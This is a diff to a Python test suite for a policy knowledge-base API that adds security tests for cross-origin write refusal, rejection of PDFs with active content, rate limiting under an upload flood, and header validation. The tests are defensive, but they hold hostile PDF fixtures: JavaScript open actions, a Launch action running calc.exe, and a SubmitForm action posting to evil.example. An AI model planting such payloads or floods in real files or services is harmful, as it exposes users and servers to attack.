@@ -141,6 +141,47 @@ def test_contributions_need_json_or_multipart(built, content_type):
         assert client.get("/moderation/contributions", headers=AUTH).json()["total"] == 0
 
 
+# -- issue 18, item 3: a foreign web page cannot write through its visitors' browsers ------------------
+
+
+@pytest.mark.parametrize("headers", [
+    {"Origin": "https://evil.example"},
+    {"Origin": "null"},  # sandboxed frames, data: pages
+    {"Origin": "http://testserver.evil.example"},
+    {"Origin": "https://ui.example:8443"},  # an allowed origin on another port is another origin
+    {"Sec-Fetch-Site": "cross-site"},
+    {"Sec-Fetch-Site": "same-site"},  # a sibling host cannot be told apart from a hostile one without Origin
+])
+def test_cross_origin_writes_are_refused(built, headers):
+    form = {"data": {"metadata": json.dumps(RECORD)}, "files": {"file": ("a.txt", b"Cluster trade missions.")}}
+    with client_for(built, cors_origins=["https://ui.example"]) as client:
+        receipt = client.post("/contributions", json=RECORD).json()  # (no Origin: not a browser)
+        refused = [client.post("/contributions", headers=headers, **form),
+                   client.post("/contributions", headers=headers, json=RECORD),
+                   client.post("/contributions/check", headers=headers, json=RECORD),
+                   client.post(f"/moderation/contributions/{receipt['id']}/approve", headers={**headers, **AUTH}),
+                   client.patch(f"/moderation/contributions/{receipt['id']}", headers={**headers, **AUTH},
+                                json={"title": "Changed"})]
+        assert [(r.status_code, r.json()["error"]["code"]) for r in refused] == [(403, "cross_origin")] * 5
+        assert client.get("/moderation/contributions", headers=AUTH).json()["total"] == 1
+        assert client.get("/moderation/contributions/" + receipt["id"], headers=AUTH).json()["status"] == "pending"
+        assert client.get("/search", params={"q": "cluster"}, headers=headers).status_code == 200  # reads stay open
+
+
+@pytest.mark.parametrize("headers", [
+    {},  # curl, scripts, the UI's server-side client
+    {"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"},  # the API's own origin
+    {"Origin": "http://TESTSERVER:80"},
+    {"Origin": "https://ui.example", "Sec-Fetch-Site": "cross-site"},  # listed in POLICYKB_CORS_ORIGINS
+    {"Sec-Fetch-Site": "same-origin"},
+])
+def test_same_origin_and_allowed_origin_writes_work(built, headers):
+    with client_for(built, cors_origins=["https://ui.example"]) as client:
+        response = client.post("/contributions", data={"metadata": json.dumps(RECORD)}, headers=headers,
+                               files={"file": ("a.txt", b"Cluster trade missions.")})
+        assert response.status_code == 201, response.text
+
+
 # -- 4. hidden items do not leak -------------------------------------------------------------------
 
 
@@ -187,6 +228,96 @@ def test_uploaded_html_is_downloaded_never_rendered(built):
             headers = client.get(path).headers
             assert headers["x-content-type-options"] == "nosniff" and "default-src 'none'" in \
                 headers["content-security-policy"]
+
+
+# -- issue 18, item 14: PDFs with active content are refused at upload, downloaded when ingested -------
+
+
+def raw_pdf(catalog: bytes = b"", page: bytes = b"", extra: list[bytes] | None = None) -> bytes:
+    """A one-page PDF with text, written by hand: `catalog` and `page` go into those dictionaries,
+    `extra` objects are numbered from 6 on."""
+    text = b"BT /F1 12 Tf 20 700 Td (Cluster export vouchers for Baltic SMEs.) Tj ET"
+    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+               b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
+               b"<< /Length %d >>stream\n" % len(text) + text + b"\nendstream",
+               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *(extra or [])]
+    out, offsets = bytearray(b"%PDF-1.6\n"), []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def pypdf_pdf(with_: str) -> bytes:
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.actions import JavaScript
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(raw_pdf())))
+    if with_ == "script":
+        writer.add_open_action(JavaScript("app.alert('hello');"))
+    else:
+        writer.add_attachment("invoice.exe", b"MZ not really a program")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+ACTIVE_PDFS = {
+    "open-action-javascript": (raw_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
+                               "JavaScript"),
+    "escaped-name": (raw_pdf(catalog=b"/OpenAction << /S /J#61vaScript /JS 6 0 R >>",
+                             extra=[b"<< /Length 12 >>stream\napp.alert(1)\nendstream"]), "JavaScript"),
+    "page-launch": (raw_pdf(page=b"/AA << /O << /S /Launch /F (calc.exe) >> >>"), "a launch action"),
+    "document-script": (pypdf_pdf("script"), "JavaScript"),
+    "embedded-file": (pypdf_pdf("attachment"), "embedded files"),
+    "submit-form": (raw_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
+                    "form submission"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(ACTIVE_PDFS))
+def test_uploads_with_active_content_are_refused(built, case):
+    data, kind = ACTIVE_PDFS[case]
+    with client_for(built) as client:
+        response = client.post("/contributions", data={"metadata": json.dumps(RECORD)},
+                               files={"file": ("offer.pdf", data, "application/pdf")})
+        assert response.status_code == 422, response.text
+        assert f"the PDF holds active content ({kind}" in response.json()["error"]["message"]
+        assert client.get("/moderation/contributions", headers=AUTH).json()["total"] == 0
+
+
+def test_a_plain_pdf_with_links_and_a_go_to_is_accepted_and_shown_inline(built):
+    plain = raw_pdf(catalog=b"/OpenAction [3 0 R /Fit]",
+                    page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
+                         b"/A << /S /URI /URI (https://example.org/) >> >>]")
+    with client_for(built) as client:
+        receipt = client.post("/contributions", data={"metadata": json.dumps(RECORD)},
+                              files={"file": ("plain.pdf", plain, "application/pdf")})
+        assert receipt.status_code == 201, receipt.text
+        item_id = client.post(f"/moderation/contributions/{receipt.json()['id']}/approve", headers=AUTH).json()["item_id"]
+        served = client.get(f"/items/{item_id}/file")
+        assert served.headers["content-disposition"].startswith("inline")
+
+
+def test_an_ingested_pdf_with_active_content_is_served_as_a_download(settings, tmp_path):
+    folder = tmp_path / "docs"
+    folder.mkdir()
+    (folder / "scripted.pdf").write_bytes(ACTIVE_PDFS["open-action-javascript"][0])
+    (folder / "scripted.meta.yaml").write_text("id: scripted\ntitle: Scripted guide\n")
+    (folder / "plain.pdf").write_bytes(raw_pdf())
+    (folder / "plain.meta.yaml").write_text("id: plain\ntitle: Plain guide\n")
+    with KnowledgeBase(settings) as kb:
+        assert kb.ingest([folder]).skipped == []
+    with client_for(settings) as client:
+        scripted, plain = client.get("/items/scripted/file"), client.get("/items/plain/file")
+    assert scripted.status_code == plain.status_code == 200
+    assert scripted.headers["content-disposition"].startswith("attachment")
+    assert plain.headers["content-disposition"].startswith("inline")
 
 
 # -- 6. one upload never freezes the API -------------------------------------------------------------
@@ -271,6 +402,63 @@ def test_health_answers_while_an_upload_is_being_refused(built):
 
     waited, status = asyncio.run(scenario())
     assert waited < 1.0 and status == 422
+
+
+# -- issue 18, item 1: a flood of uploads never freezes the API ---------------------------------------
+
+
+def test_health_and_search_answer_while_a_flood_of_uploads_is_in_flight(built):
+    env = {**os.environ, "POLICYKB_HOME": str(built.home), "POLICYKB_MODEL": "hashing",
+           "POLICYKB_TRUSTED_PROXIES": "127.0.0.1", "POLICYKB_UPLOAD_PARSE_SECONDS": "3",
+           "POLICYKB_CONTRIBUTIONS_PER_HOUR": "1000"}
+    port = free_port()
+    hostile = inflating_pdf(1_200_000)  # seconds of text extraction in the sandbox, then refused
+
+    async def flood() -> tuple[list[tuple[int, str | None, float]], int, float, float]:
+        limits = httpx.Limits(max_connections=100)
+        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=120, limits=limits) as client:
+            async def upload(n: int) -> tuple[int, str | None, float]:
+                started = time.monotonic()
+                response = await client.post(
+                    "/contributions", data={"metadata": json.dumps(RECORD)}, files={"file": ("slow.pdf", hostile)},
+                    headers={"X-Forwarded-For": f"198.51.100.{n % 40}"})  # 40 clients, some twice
+                return response.status_code, response.headers.get("retry-after"), time.monotonic() - started
+
+            uploads = [asyncio.create_task(upload(n)) for n in range(45)]
+            await asyncio.sleep(1.0)  # every upload has reached the server by now
+            in_flight = sum(not u.done() for u in uploads)
+            started = time.monotonic()
+            assert (await client.get("/health")).status_code == 200
+            health_seconds = time.monotonic() - started
+            started = time.monotonic()
+            # (one word: a question of several would first load the language detector, seconds, flood or not)
+            assert (await client.get("/search", params={"q": "vouchers"})).status_code == 200
+            search_seconds = time.monotonic() - started
+            return list(await asyncio.gather(*uploads)), in_flight, health_seconds, search_seconds
+
+    server = serve(env, port)
+    try:
+        outcomes, in_flight, health_seconds, search_seconds = asyncio.run(flood())
+    finally:
+        server.terminate()
+        server.wait(timeout=10)
+    assert health_seconds < 1.0 and search_seconds < 1.0, (health_seconds, search_seconds)
+    admitted = [o for o in outcomes if o[0] == 422]  # parsed in the sandbox, refused as too slow to read
+    refused = [o for o in outcomes if o[0] in (429, 503)]
+    assert len(admitted) == 4 and in_flight == 4 and len(refused) == 41, [o[0] for o in outcomes]
+    assert all(o[1] is not None and int(o[1]) > 0 for o in refused)  # Retry-After: when to come back
+    assert max(o[2] for o in refused) < min(o[2] for o in admitted)  # refused at once, not queued behind them
+
+
+def test_failed_uploads_count_against_the_rate_limit_of_a_client(built):
+    with client_for(built, contributions_per_hour=3) as client:
+        for _ in range(3):
+            assert client.post("/contributions", data={"metadata": json.dumps(RECORD)},
+                               files={"file": ("bad.pdf", b"%PDF-1.4 broken")}).status_code == 422
+        for refused in (client.post("/contributions", json=RECORD),
+                        client.post("/contributions", data={"metadata": "{"})):  # counted before it is read
+            assert refused.status_code == 429 and 3590 <= int(refused.headers["retry-after"]) <= 3600
+        assert client.get("/moderation/contributions", headers=AUTH).json()["total"] == 0
 
 
 # -- 7. malformed bodies are 4xx, not 500 ------------------------------------------------------------
@@ -427,6 +615,10 @@ def test_searches_on_two_api_processes_while_a_third_publishes_and_unpublishes(s
     servers = [serve(env, port) for port in ports]
     toggler = None
     try:
+        for port in ports:  # the first question of several words loads the language detector: tens of
+            # seconds on a busy machine, which is not what this test measures
+            assert httpx.get(f"http://127.0.0.1:{port}/search", params={"q": "cluster support"},
+                             timeout=300).status_code == 200
         script = ("import sys\nfrom policykb.config import Settings\nfrom policykb.kb import KnowledgeBase\n"
                   "with KnowledgeBase(Settings()) as kb:\n"
                   "    for n in range(100_000):\n"
@@ -459,3 +651,34 @@ def test_searches_on_two_api_processes_while_a_third_publishes_and_unpublishes(s
             kb.set_published("eu-exchange", published)
         assert kb.check()["status"] == "ok"
         assert [p.name for p in settings.home.iterdir() if p.name.endswith(".tmp")] == []
+
+
+# == issue 18: safe under a crowd ====================================================================
+
+# -- 12. only valid addresses in X-Forwarded-For make a rate-limit bucket ----------------------------
+
+
+@pytest.mark.parametrize("header", [b"garbage-1", b"6.6.6.6, garbage-2", b"300.1.1.1", b"1.2.3.4:5678", b"",
+                                    b"10.0.0.7, ::ffff:zz"])
+def test_a_forwarded_for_that_is_not_an_address_falls_back_to_the_peer(header):
+    from policykb.security import trusted_networks
+
+    scope = {"client": ("127.0.0.1", 5000), "headers": [(b"x-forwarded-for", header)]}
+    assert client_address(scope, trusted_networks(["127.0.0.1"])) == "127.0.0.1"
+
+
+def test_forwarded_addresses_are_written_one_way():
+    from policykb.security import trusted_networks
+
+    scope = {"client": ("127.0.0.1", 5000), "headers": [(b"x-forwarded-for", b"2001:DB8:0:0::1")]}
+    assert client_address(scope, trusted_networks(["127.0.0.1"])) == "2001:db8::1"  # one bucket per address
+
+
+# -- 13. a moderator token must be what an HTTP header can carry --------------------------------------
+
+
+@pytest.mark.parametrize("entry", ["alice:pässwort-long-enough-123", "alice:a long token with spaces",
+                                   "alice:tab\there-and-more-chars"])
+def test_a_token_an_http_header_cannot_carry_stops_the_server(built, entry):
+    with pytest.raises(ConfigError, match="printable ASCII"):
+        create_app(built.model_copy(update={"moderator_tokens": [entry]}))
